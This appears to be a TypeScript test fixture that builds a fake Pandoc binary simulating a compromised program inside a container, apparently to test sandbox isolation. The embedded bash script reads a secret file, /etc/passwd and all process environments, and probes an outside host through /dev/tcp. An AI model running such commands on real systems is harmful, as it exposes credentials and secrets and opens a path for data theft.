import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

/** The file with a secret, in a container that mounts the folder. */
export const secretFile = '/spy/secret';

/**
 * Fills a folder for `/spy` in a container: a secret, and a program that stands in for Pandoc after a successful attack.
 * Its output is everything that it can read of the secret, the list of users, and the node's environment, and says
 * whether it reaches the address.
 */
export function makeSpyingProgram(folder: string, secret: string, url: string): void {
  mkdirSync(path.join(folder, 'bin'), { recursive: true });
  writeFileSync(path.join(folder, 'secret'), secret);
  const program = path.join(folder, 'bin/pandoc');
  const { hostname, port } = new URL(url);
  writeFileSync(
    program,
    `#!/bin/bash
if [ "$1" = --version ]; then exec /usr/bin/pandoc --version; fi
for argument; do case $argument in --output=*) output=\${argument#--output=} ;; esac; done
{
  echo spied
  cat ${secretFile} /etc/passwd /proc/[0-9]*/environ
  (exec 3<>/dev/tcp/${hostname}/${port}) && echo reached
} 2>/dev/null | tr '\\0' '\\n' >"$output"
`,
  );
  chmodSync(program, 0o755);
}
